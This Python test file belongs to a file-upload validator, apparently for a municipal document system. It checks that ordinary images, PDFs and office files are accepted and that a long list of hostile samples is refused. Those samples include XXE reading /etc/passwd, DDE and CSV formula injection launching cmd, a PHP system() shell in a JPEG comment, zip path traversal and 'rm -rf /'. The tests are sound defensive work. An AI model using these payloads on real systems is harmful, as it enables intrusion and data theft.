"""What is taken and what is refused, by rule."""

import io
import random
import zipfile
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shizheng.kernel.files.rules import EVIDENCE, KINDS, Refused, check, checked_name, download_name
from shizheng.kernel.files.rules import zips as zip_rules
from shizheng.kernel.files.tests import samples as s
from shizheng.kernel.publication.documents import odt as odt_writer
from shizheng.kernel.publication.documents import pdf as pdf_writer
from shizheng.kernel.publication.documents.model import Document, Heading, Paragraph
from shizheng.web import exports

MEMO = Document(
    title="備忘", author="測試市政府", data={}, subject="測試", code="pub_test",
    blocks=(Heading(1, "第一部分"), Paragraph(("一段文字",))), issued_at=datetime(2026, 11, 21, tzinfo=UTC),
)  # fmt: skip

HONEST = {
    "a.png": s.image("PNG"), "a.jpg": s.image("JPEG"), "a.JPEG": s.photograph(), "a.webp": s.image("WEBP"),
    "a.pdf": s.pdf(3), "a.odt": s.odt(), "a.docx": s.docx(), "a.xlsx": s.xlsx(),
    "a.csv": "單位,件數\n甲,12\n乙,−3\n".encode(), "a.txt": "一段文字\n第二行，小於 < 大於 >\n".encode(),
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_known_by_its_content(name: str) -> None:
    found = check(HONEST[name], name)
    assert name.lower().rpartition(".")[2] in found.kind.extensions and found.name == name
    assert (found.pages == 3) == (found.kind.code == "pdf")
    assert bool(found.width) == (found.kind.family == "image")


@pytest.mark.parametrize(("name", "kind"), [("m.odt", "odt"), ("m.pdf", "pdf"), ("m.xlsx", "xlsx"), ("m.ods", "ods")])  # fmt: skip
def test_documents_that_the_product_writes_are_taken(name: str, kind: str) -> None:
    rows = [["單位", "件數"], ["甲", 12]]
    made = {
        "odt": lambda: odt_writer.to_odt(MEMO), "pdf": lambda: pdf_writer.to_pdf(MEMO),
        "xlsx": lambda: exports.xlsx_bytes(rows, "表"), "ods": lambda: exports.ods_bytes(rows, "表"),
    }[kind]()  # fmt: skip
    assert check(made, name).kind.code == kind


def test_a_photograph_with_a_second_view_behind_it_is_one_photograph() -> None:
    assert check(s.image("JPEG") + s.image("JPEG", (20, 10)), "a.jpg").width == 40


JUST_XML = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
LAUGHS = "<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>"
FORMULA = '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;b&quot;)"/>'
IMAGE = '<draw:image xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xlink:href="http://198.51.100.7/a.png"/>'


def overlapping() -> bytes:
    """Two entries of the directory that point to one place."""
    data = bytearray(s.odf({"aa": b"x" * 400, "bb": b"y" * 400}))
    out = bytes(data)
    second = out.find(b"PK\x01\x02", out.find(b"bb", out.find(b"PK\x01\x02")) - 60)
    first = out.find(b"PK\x01\x02")
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(s.odt())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


HOSTILE = [
    ("empty", "empty", b"", "a.pdf"),
    ("program", "executable", s.program(), "a.pdf"),
    ("elf", "executable", b"\x7fELF" + b"\0" * 99, "a.png"),
    ("shell script", "executable", b"#!/bin/sh\nrm -rf /\n", "a.txt"),
    ("html", "markup", b"<!DOCTYPE html><script>alert(1)</script>", "a.txt"),
    ("html behind a mark", "markup", b"\xef\xbb\xbf \n<!-- a --><HTML>", "a.txt"),
    ("script in text", "markup", b"hello <script src=a>", "a.txt"),
    ("svg", "markup", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.png"),
    ("svg with xml", "markup", b"<?xml version='1.0'?><svg/>", "a.svg"),
    ("archive", "archive", s.zipped({"a.txt": "x"}), "a.zip"),
    ("archive as document", "archive", s.zipped({"a.txt": "x"}), "a.docx"),
    ("rar", "archive", b"Rar!\x1a\x07\x01\0", "a.pdf"),
    ("old office", "old_format", s.OLE, "a.doc"),
    ("rtf", "old_format", b"{\\rtf1 x}", "a.rtf"),
    ("gif", "not_allowed", b"GIF89a" + b"\0" * 40, "a.gif"),
    ("photograph of a telephone", "not_allowed", b"\0\0\0\x18ftypheic" + b"\0" * 40, "a.heic"),
    ("wrong extension", "wrong_extension", s.image("PNG"), "a.pdf"),
    ("no extension", "wrong_extension", s.pdf(), "a"),
    ("noise as pdf", "damaged", b"\x01\x02\x03" * 50, "a.pdf"),
    ("noise", "unknown_type", b"\x01\x02\x03" * 50, "a.bin"),
    ("big5", "unknown_type", "市政府".encode("big5"), "a.txt"),
    ("escape sequence", "hostile", b"a\x1b[2Jb", "a.txt"),
    ("spreadsheet that runs", "macros", b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv"),
    # PDF
    ("javascript", "script", s.with_action("/JavaScript"), "a.pdf"),
    ("launch", "script", s.with_action("/Launch"), "a.pdf"),
    ("launch in disguise", "script", s.with_action("/Launch").replace(b"/Launch", b"/La#75nch"), "a.pdf"),
    ("sends a form", "script", s.with_action("/SubmitForm"), "a.pdf"),
    ("form of xml", "script", s.with_form_of_xml(), "a.pdf"),
    ("attachment", "embedded", s.with_attachment(), "a.pdf"),
    ("locked pdf", "encrypted", s.locked_pdf(), "a.pdf"),
    ("cut pdf", "damaged", s.pdf()[:-40], "a.pdf"),
    ("pdf with more", "polyglot", s.pdf() + b"MZ and more", "a.pdf"),
    ("pdf and archive", "polyglot", s.pdf() + s.zipped({"a": "b"}), "a.pdf"),
    # images
    ("cut png", "damaged", s.image("PNG")[:-9], "a.png"),
    ("cut jpeg", "damaged", s.image("JPEG")[:-30], "a.jpg"),
    ("broken checksum", "damaged", s.image("PNG").replace(b"IDAT", b"IDAX"), "a.png"),
    ("image and archive", "polyglot", s.image("PNG") + s.zipped({"a.html": "b"}), "a.png"),
    ("image and page", "polyglot", s.image("JPEG") + b"<script>alert(1)</script>", "a.jpg"),
    ("image of many pixels", "bomb", s.png_of(20_000, 20_000), "a.png"),
    ("image of a long side", "bomb", s.png_of(60_000, 10), "a.png"),
    ("php in an image", "polyglot", s.image("JPEG", comment=b"<?php system('id'); ?>"), "a.jpg"),
    ("pdf in an image", "polyglot", s.image("JPEG", comment=b"%PDF-1.7"), "a.jpg"),
    ("more behind webp", "polyglot", s.image("WEBP") + b"xx", "a.webp"),
    # packages
    ("bomb by ratio", "bomb", s.odf({"Pictures/a.bin": b"\0" * 8_000_000}), "a.odt"),
    ("bomb by members", "bomb", s.odf({f"a/{n}": b"" for n in range(zip_rules.MAX_ENTRIES)}), "a.odt"),
    ("bomb by overlap", "bomb", overlapping(), "a.odt"),
    ("path upwards", "path", s.odf({"../../etc/cron.d/a": "x"}), "a.odt"),
    ("path from the root", "path", s.odf({"/etc/passwd": "x"}), "a.odt"),
    ("path of windows", "path", s.odf({"..\\a": "x"}), "a.odt"),
    ("drive", "path", s.odf({"C:a": "x"}), "a.odt"),
    ("locked package", "encrypted", encrypted(), "a.odt"),
    ("locked odf", "encrypted", s.odf({"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "a.odt"),
    ("entity in odf", "hostile", s.odf({"content.xml.xml": JUST_XML}), "a.odt"),
    ("entity in docx", "hostile", s.docx(parts={"word/settings.xml": JUST_XML}), "a.docx"),
    ("entities in xlsx", "hostile", s.xlsx(parts={"xl/sharedStrings.xml": LAUGHS}), "a.xlsx"),
    ("entity in relations", "hostile", s.docx(parts={"_rels/.rels": JUST_XML}), "a.docx"),
    ("entity in a drawing", "hostile", s.docx(parts={"word/a.vml": JUST_XML}), "a.docx"),
    ("deep xml", "hostile", s.docx("<w:p>" * 400 + "</w:p>" * 400), "a.docx"),
    ("broken xml", "damaged", s.docx("<w:p>"), "a.docx"),
    ("bytes before", "damaged", b"x" + s.odt(), "a.odt"),
    ("bytes behind", "polyglot", s.odt() + b"xx", "a.odt"),
    ("vba", "macros", s.docx(parts={"word/vbaProject.bin": s.OLE}), "a.docx"),
    ("format for macros", "macros", s.zipped({"[Content_Types].xml": "<a t='application/vnd.ms-word.document.macroEnabled.main+xml'/>", "word/document.xml": "<a/>"}), "a.docx"),
    ("basic", "macros", s.odf({"Basic/Standard/Module1.xml": "<m>Sub a\nEnd Sub</m>"}), "a.odt"),
    ("library of basic", "macros", s.odf({"Basic/Standard/script-lb.xml": "<library:library xmlns:library='a'><library:element library:name='M'/></library:library>"}), "a.odt"),
    ("python in odf", "macros", s.odf({"Scripts/python/a.py": "import os"}), "a.odt"),
    ("event in odf", "macros", s.odt("<script:event-listener script:language='ooo:script'/>"), "a.odt"),
    ("dde in odf", "external", s.odt("<text:dde-connection-decl office:dde-application='cmd'/>"), "a.odt"),
    ("dde in a formula", "external", s.odt(FORMULA), "a.odt"),
    ("picture from outside", "external", s.odt(IMAGE), "a.odt"),
    ("dde in word", "external", s.docx("<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"), "a.docx"),
    ("dde in pieces", "external", s.docx("<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r></w:p>"), "a.docx"),
    ("dde in a simple field", "external", s.docx("<w:p><w:fldSimple w:instr=' DDE cmd'/></w:p>"), "a.docx"),
    ("template from outside", "external", s.docx(parts={"word/_rels/settings.xml.rels": s.relation("attachedTemplate", "http://198.51.100.7/a.dotm")}), "a.docx"),
    ("workbook outside", "external", s.xlsx(parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "a.xlsx"),
    ("dde in a cell", "external", s.xlsx("<row><c><f>cmd|'/c calc'!A1</f></c></row>"), "a.xlsx"),
    ("web service", "external", s.xlsx("<row><c><f>WEBSERVICE(&quot;http://198.51.100.7&quot;)</f></c></row>"), "a.xlsx"),
    ("program inside", "executable", s.docx(parts={"word/media/image1.png": s.program()}), "a.docx"),
    ("archive inside", "archive", s.docx(parts={"word/media/a.zip": s.zipped({"a": "b"})}), "a.docx"),
    ("object inside", "embedded", s.docx(parts={"word/embeddings/oleObject1.bin": s.OLE}), "a.docx"),
    ("macros inside what is inside", "macros", s.docx(parts={"word/embeddings/a.xlsx": s.xlsx(parts={"xl/vbaProject.bin": s.OLE})}), "a.docx"),
    ("three deep", "archive", s.docx(parts={"word/embeddings/a.xlsx": s.xlsx(parts={"xl/embeddings/b.xlsx": s.xlsx()})}), "a.docx"),
]  # fmt: skip


@pytest.mark.parametrize(("code", "data", "name"), [each[1:] for each in HOSTILE], ids=[each[0] for each in HOSTILE])  # fmt: skip
def test_a_hostile_file_is_refused_and_said_why(code: str, data: bytes, name: str) -> None:
    with pytest.raises(Refused) as failure:
        check(data, name)
    assert failure.value.code == code, failure.value.message
    assert failure.value.message.startswith(f"「{name}」沒有收下：") and failure.value.message.endswith("。")


def test_links_that_a_reader_follows_by_hand_and_empty_libraries_are_harmless() -> None:
    link = s.docx(parts={"word/_rels/document.xml.rels": s.relation("hyperlink", "https://example.gov.tw/")})
    assert check(link, "a.docx").kind.code == "docx"
    library = (
        "<library:libraries xmlns:library='a'><library:library library:name='Standard'/></library:libraries>"
    )
    assert check(s.odf({"Basic/script-lc.xml": library}), "a.odt").kind.code == "odt"
    chart = s.docx(parts={"word/embeddings/a.xlsx": s.xlsx()})
    assert check(chart, "a.docx").kind.code == "docx"
    assert check(b"a,b\n-5,+3\n=A1+B1,2\n", "a.csv").kind.code == "csv"


def test_a_kind_that_is_not_wanted_here_is_refused_with_those_that_are() -> None:
    with pytest.raises(Refused, match=r"這裡不收PDF 文件.*\.png") as failure:
        check(s.pdf(), "a.pdf", frozenset({"png"}))
    assert failure.value.code == "not_allowed"
    assert check(b'{"a": 1}', "a.json", EVIDENCE | {"json"}).kind.code == "json"


@pytest.mark.parametrize("kind", ["txt", "csv"])
def test_each_kind_has_its_size(kind: str) -> None:
    most = KINDS[kind].most
    assert check(b"a" * most, f"a.{kind}").kind.code == kind
    with pytest.raises(Refused, match="超過") as failure:
        check(b"a" * (most + 1), f"a.{kind}")
    assert failure.value.code == "too_large"


def test_a_member_that_lies_about_its_size_is_refused() -> None:
    data = bytearray(s.odf({"Pictures/a": random.Random(1).randbytes(5000)}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    with pytest.raises(Refused) as failure:
        check(bytes(data), "a.odt")
    assert failure.value.code == "damaged"


def test_two_members_of_one_name_are_refused() -> None:
    out = io.BytesIO(s.odt())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("CONTENT.xml", "<a/>")
    with pytest.raises(Refused, match="同名"):
        check(out.getvalue(), "a.odt")


@pytest.mark.parametrize("name", ["a\0.pdf", "a\u202egpj.exe", "a\nb.pdf", "", "...", "a\x7f.pdf", "\ud800.pdf", "x" * 201])  # fmt: skip
def test_a_name_that_hides_something_is_refused(name: str) -> None:
    with pytest.raises(Refused) as failure:
        checked_name(name)
    assert failure.value.code == "bad_name"


@pytest.mark.parametrize(
    ("name", "kept"),
    [("C:\\下載\\成果.pdf", "成果.pdf"), ("../../a.pdf", "a.pdf"), (" 成果  報告.pdf . ", "成果 報告.pdf"), ("a\u200bb.pdf", "ab.pdf")],
)  # fmt: skip
def test_a_name_is_kept_without_its_folder(name: str, kept: str) -> None:
    assert checked_name(name) == kept


@given(st.text(max_size=400))
def test_a_name_for_downloading_is_safe_everywhere(name: str) -> None:
    safe = download_name(name)
    assert safe and len(safe.encode()) <= 200 and not set(safe) & set('/\\:*?"<>|\0\r\n;')
    assert not safe.startswith((".", "-")) and safe.split(".")[0].lower() not in ("con", "nul", "aux", "prn", "com1")  # fmt: skip


def taken_or_refused(data: bytes, name: str) -> None:
    """The only ways out: it is taken, or refused with a code and a sentence."""
    try:
        assert check(data, name).kind.code in KINDS
    except Refused as failure:
        assert failure.code and failure.message


NAMES = st.sampled_from([f"a.{each}" for kind in KINDS.values() for each in kind.extensions] + ["a", "a.exe"])
HEADS = st.sampled_from([b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"RIFF\0\0\0\0WEBP", b"PK\x03\x04", b"PK\x05\x06", b"MZ", b"<", b"{"])  # fmt: skip


@given(HEADS, st.binary(max_size=600), NAMES)
@settings(max_examples=300, deadline=None)
def test_random_bytes_are_taken_or_refused(head: bytes, data: bytes, name: str) -> None:
    taken_or_refused(head + data, name)


@given(st.sampled_from(sorted(HONEST)), st.data())
@settings(max_examples=200, deadline=None)
def test_an_honest_file_with_some_bytes_changed_is_taken_or_refused(name: str, data: st.DataObject) -> None:
    content = bytearray(HONEST[name])
    for _ in range(data.draw(st.integers(1, 12))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(content)))
    taken_or_refused(bytes(content), name)
    taken_or_refused(bytes(content[:cut]), name)


@given(st.text(max_size=60))
def test_whatever_a_file_is_called_it_is_taken_or_refused(name: str) -> None:
    taken_or_refused(b"abc", name)
